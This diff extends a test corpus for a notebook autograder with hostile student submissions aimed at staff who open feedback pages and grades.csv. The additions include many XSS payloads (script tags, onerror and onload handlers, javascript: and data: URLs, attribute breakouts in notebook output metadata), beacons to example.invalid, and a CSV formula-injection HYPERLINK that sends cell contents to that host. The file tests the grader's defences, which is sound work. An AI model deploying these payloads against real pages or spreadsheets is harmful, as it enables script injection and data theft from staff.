@@ -3,7 +3,8 @@
 - BROKEN: files that are not what a grader expects (not JSON, nbformat 3, stripped metadata, a kernel that
   exits or segfaults, a method that loops forever or eats memory, a Colab round trip, ...).
 - TAMPERS: code that tries to write its own grade (replacing the checks, patching the clock, hiding forward
-  calls, caching outputs, reading the instructors' files, writing the gradebook, ...). Each tamper prints
+  calls, caching outputs, reading the instructors' files, writing the gradebook, ...), or to reach the staff
+  who open the grader's files (scripts on the feedback page, a formula in grades.csv). Each tamper prints
   a marker once it has acted, so a tamper that crashed before acting is told apart from one that failed.
 
 `write_corpus(folder)` writes every submission as `<name>.ipynb` for `specdec-course autograde`;
@@ -80,6 +81,84 @@ def with_cell(notebook: nbformat.NotebookNode, source: str, after: str) -> nbfor
 
 def marker(name: str) -> str:
     return f"print({MARKER + ' ' + name!r}, flush=True)"
+
+
+# ---------------------------------------------------------------------------------------------
+# Readers: what a student writes for the staff who open the grader's files (feedback pages, formgrader, grades.csv).
+# Each script would set the page's title to one holding READER_MARKER; the plot must still show.
+
+READER_MARKER = "PWNED"
+PLOT_WIDTH = 50  # PLOT_PNG is 50 x 30 pixels: a line, as a student's plot
+PLOT_PNG = ("iVBORw0KGgoAAAANSUhEUgAAADIAAAAeCAYAAABuUU38AAAAOnRFWHRTb2Z0d2FyZQBNYXRwbG90bGliIHZlcnNpb24zLjExLjIs"
+              "IGh0dHBzOi8vbWF0cGxvdGxpYi5vcmcvgI3uAAAAAAlwSFlzAAAPYQAAD2EBqD+naQAAAuZJREFUeJztmElPk1EYRs/X0kFoqZWh"
+              "mGKBIqiJRoNTNMaA4BBjVKLBAQVlkJWJiYn/BcSIoCjoSlFwHmLcqyiKUkpRcUCllBak/XpduJShxY+2Gs/63ud9Tu67upIQQvAP"
+              "oIp2AaX4LxJrxEW7wHTIo6P0t17hw9U2RCBAzonjpBbk/3YuZkWEEAw+foLzbAPjX78BYF6Zh3HxognPx6SIz+XCUXcG9/NOAHSW"
+              "VOxVFZhXr0KSpAnvxJRIwOej/1IrA203ELKMSqvFuqcYa/Eu1DrdlHdjQkQIwZeHj3A2NOL/PgTAvLWryao8it5iCSkj6iLeXieO"
+              "unqGX3YBoJ+fhr26EvPKvLByoiYSGPHiar7EQHsHBIOotFrSS/Zi3b0TlUYTdl7ERUQwyOd7D+hrbMLvHgYgaf06sirK0aWkzDg3"
+              "oiIjPQ4ctafxvO4GYE66FXt1JXNXLP/j7IiI+D0eXOeb+XjzNgiBSq/Htr+E+Tu2z2iNJmJWRYQs8+nOXfqamgl4PAAkb9xA5pEy"
+              "dElJis6aNRFP9xsctacZedsDQLxtAfZjVZiWLZ2VeYqL+N1unI0X+HznLgDq+HhsB/aRtn0bqrjZWwDFkoUs87HjFn0XLiJ7vQCk"
+              "FOSTWX4Irdms1JhJUURkuOsVjtp6vL29ACRkZWGvqSJxyWIl4kPij0TGh4ZwNjTx5f4DANQJCWSUHiBt2xYktVqJfiEzIxEhywzc"
+              "aMfV3ILs8wGQWlRIZlkpGpNJ0YKhEraIu/MFjrp6fH0uAAwLs7HXVGPMzVG8XDiELPLj6zecDecYfPT410WjgYzDpViKCiO+RhMx"
+              "rUjQ7+fDtev0t1wmODYGkkTa1s3YSg+iSTRGomNITCky9PQZjrp6Rt+9B8C4KBd7TTWGbHtEyoWDNNkH3cjbHp6ePAWAxpRIRtlh"
+              "UjflI6li8+Nl0hcxLMxm3to16JKTsR3cT5whIZK9wmbSF/nbiM09mQH/jMhP6LLvf3dw6QYAAAAASUVORK5CYII=")
+HOSTILE_MARKDOWN = f"""My report. <script>document.title = "{READER_MARKER} markdown script"</script>
+
+<img src="x" onerror="document.title = '{READER_MARKER} markdown onerror'"> [a link](javascript:document.title='x')
+<a href="java&#x73;cript:document.title='{READER_MARKER}'">entity-encoded</a>
+<a href="data:text/html,<script>1</script>">data</a>
+<svg onload="document.title = '{READER_MARKER} svg'"><circle r="5"/></svg>
+<iframe srcdoc="<script>parent.document.title = '{READER_MARKER} iframe'</script>"></iframe>
+<details open ontoggle="document.title = '{READER_MARKER} toggle'"><summary>s</summary></details>
+<meta http-equiv="refresh" content="0; url=javascript:document.title='{READER_MARKER}'">
+<base href="http://example.invalid/"><link rel="stylesheet" href="http://example.invalid/x.css">
+<style>body {{ background: url(http://example.invalid/seen.png) }}</style>
+<object data="data:text/html,<script>parent.document.title='{READER_MARKER}'</script>"></object>
+<form action="javascript:document.title='{READER_MARKER}'"><button>send</button></form>
+"""
+# (data, metadata) of the outputs a code cell displays: HTML, JavaScript, markdown and SVG that would run a script, an
+# isolated HTML output (nbconvert puts it in an iframe), an image whose width carries an event handler (nbconvert
+# writes an image's width unquoted) and one whose data would close its src attribute; and a plot.
+HOSTILE_OUTPUTS = [
+    ({"text/html": f"<b>bold</b><script>document.title = '{READER_MARKER} html'</script>"
+                   f"<img src=x onerror=\"document.title = '{READER_MARKER} onerror'\">", "text/plain": "HTML"}, {}),
+    ({"application/javascript": f"document.title = '{READER_MARKER} javascript'", "text/plain": "JS"}, {}),
+    ({"text/markdown": f"<script>document.title = '{READER_MARKER} markdown output'</script>*emphasis*"}, {}),
+    ({"text/html": f"<script>document.title = '{READER_MARKER} isolated'</script>"}, {"text/html": {"isolated": True}}),
+    ({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='{READER_MARKER} svg'\">"
+                       "<circle r='5'/></svg>"}, {}),
+    ({"image/png": "x"}, {"image/png": {"width": f"1 onerror=document.title='{READER_MARKER}-width'"}}),
+    ({"image/png": f'x" onerror="document.title=\'{READER_MARKER} src\''}, {}),
+    ({"image/png": PLOT_PNG, "text/plain": "a plot"}, {}),
+]
+HOSTILE_DISPLAYS = "from IPython.display import display\n" + "".join(
+    f"display({data!r}, raw=True, metadata={metadata!r})\n" for data, metadata in HOSTILE_OUTPUTS)
+
+
+def hostile_outputs() -> list[nbformat.NotebookNode]:
+    """The outputs HOSTILE_DISPLAYS shows in a kernel, made without one."""
+    return [nbformat.v4.new_output("display_data", data=data, metadata=metadata) for data, metadata in HOSTILE_OUTPUTS]
+
+
+# Put first among the load problems the grading child reports, the formula starts grades.csv's `message` cell.
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2&B2, "grades")'
+FORMULA_CLASS = f"""class Formula:
+    import sys
+    _frame = sys._getframe()
+    while _frame is not None and _frame.f_code.co_name != "run_definitions":
+        _frame = _frame.f_back
+    if _frame is not None:
+        _frame.f_locals["problems"].insert(0, {FORMULA!r})
+"""
+
+
+def for_readers(notebook: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    """`notebook` with the hostile markdown as its report, a cell of hostile outputs and the formula's class after
+    `imports`."""
+    for source in (FORMULA_CLASS, HOSTILE_DISPLAYS):
+        notebook = with_cell(notebook, source, after="imports")
+    [report] = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "report"]
+    report.source = HOSTILE_MARKDOWN
+    return notebook
 
 
 # ---------------------------------------------------------------------------------------------
@@ -494,7 +573,9 @@ TAMPERS = [
     # In a sandbox neither finds anything to read or write: the blank's row, and a page (tests/test_corpora.py
     # checks that no page shows the hidden checks).
     Case("read_files", on_blank(READ_FILES), Expected(loses=AUTO, targets=AUTO, marker=True)),
-    Case("write_gradebook", on_blank(WRITE_GRADEBOOK), Expected(loses=AUTO, targets=AUTO, marker=True)),
+    # write_gradebook also carries the readers' tampers (for_readers): its page and grades.csv are what staff open.
+    Case("write_gradebook", lambda: for_readers(on_blank(WRITE_GRADEBOOK)()),
+         Expected(loses=AUTO, targets=AUTO, marker=True)),
     Case("escape", on_blank(ESCAPE), Expected(loses=AUTO, targets=AUTO, marker=True)),
     Case("raised_points", raised_points, Expected("error", AUTO, "could not start", targets=AUTO)),
     Case("exit_after_pass", lambda: with_cell(blank(), EXIT_AFTER_PASS, after="test_counts"),
